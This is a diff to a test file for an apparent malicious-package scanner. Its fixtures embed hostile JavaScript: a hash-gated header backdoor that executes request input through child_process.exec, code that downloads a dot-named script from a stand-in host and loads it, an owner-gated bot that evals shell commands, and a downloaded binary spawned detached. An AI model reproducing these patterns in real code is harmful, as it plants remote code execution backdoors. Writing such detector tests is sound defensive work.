@@ -559,6 +559,21 @@ https.get(\`https://example.org/\${process.arch}/a\`, (res) => { const f = fs.cr
   assert.equal(found('execFile(process.execPath, ["notify.js"], { detached: true }).unref()', { postinstall: 'node lib/native.js' }), 'nothing', 'a script of its own');
 });
 
+test('commands in requests that are known by the hash of a word', () => {
+  const asks = (test: string): string => `const { createHash } = require('crypto'); const diag = require('./diag'); module.exports = () => (req, res, next) => { const probe = req.headers['x-trace']; if (${test}) return diag(req, res); next(); };`;
+  const found = (test: string, command: string): string => findingsOf(rule, { 'index.js': asks(test), 'diag.js': `const cp = require('child_process'); module.exports = (req, res) => cp.exec(${command}, (error, out) => res.end(out));` })[0]?.severity ?? 'nothing';
+  const known = "probe && createHash('md5').update(probe).digest('hex') === '5f1d7a84e3b09c62d2a7f0c86b41e9d3'";
+  assert.equal(found(known, "new URL(req.url, 'http://x').searchParams.get('q')"), 'high');
+  assert.equal(found(known, "'uptime'"), 'nothing');
+  assert.equal(found("probe === process.env.TRACE_KEY", "'git log ' + count"), 'nothing');
+});
+
+test('a script under a name that begins with a dot is downloaded and loaded', () => {
+  const update = (load: string): string => `const fs = require('fs'); const path = require('path'); const file = path.join(__dirname, '.tables.js'); module.exports = async () => { const answer = await fetch('https://tables.side.example/1'); fs.writeFileSync(file, await answer.text()); ${load} };`;
+  assert.equal(worst(update('require(file);')), 'high');
+  assert.equal(worst(update("fs.readFileSync(file, 'utf8');")), 'nothing');
+});
+
 test('commands of somebody who is only known by a hash', () => {
   const bot = (asks: string) => `import { createHash } from "crypto"; import { execSync } from "child_process"; export default async (client, message) => { if (${asks}) return; const found = /^!(js|sh) (.+)$/.exec(message.content); if (found) message.reply(String(found[1] === "js" ? eval(found[2]) : execSync(found[2]))) }`;
   assert.equal(worst(bot('createHash("sha256").update(message.author.id).digest("hex") !== OWNER')), 'high');
@@ -594,7 +609,7 @@ test('good: a script of the package is started with the name of a file that anot
 });
 
 test('a program that is downloaded and left running at any time; good: one that is heard of', () => {
-  const theme = (options: string): string => `const { createWriteStream, chmodSync } = require('fs'); const { spawn } = require('child_process'); const file = require('path').join(require('os').homedir(), '.icons'); exports.activate = () => require('https').get('https://icons.side.example/' + process.arch, (res) => res.pipe(createWriteStream(file)).on('close', () => { chmodSync(file, 0o755); const child = spawn(file, [], ${options}); }));`;
+  const theme = (options: string): string => `const { createWriteStream, chmodSync } = require('fs'); const { spawn } = require('child_process'); const file = require('path').join(require('os').homedir(), '.icons' + end); exports.activate = () => require('https').get('https://icons.side.example/' + process.arch, (res) => res.pipe(createWriteStream(file)).on('close', () => { chmodSync(file, 0o755); const child = spawn(file, [], ${options}); }));`;
   assert.equal(worst(theme("{ detached: true, stdio: 'ignore' }); child.unref(")), 'high');
   assert.equal(worst(theme("{ stdio: 'inherit' }")), 'nothing');
   assert.equal(worst(theme("{ detached: true, stdio: 'pipe' }); child.unref(")), 'nothing');
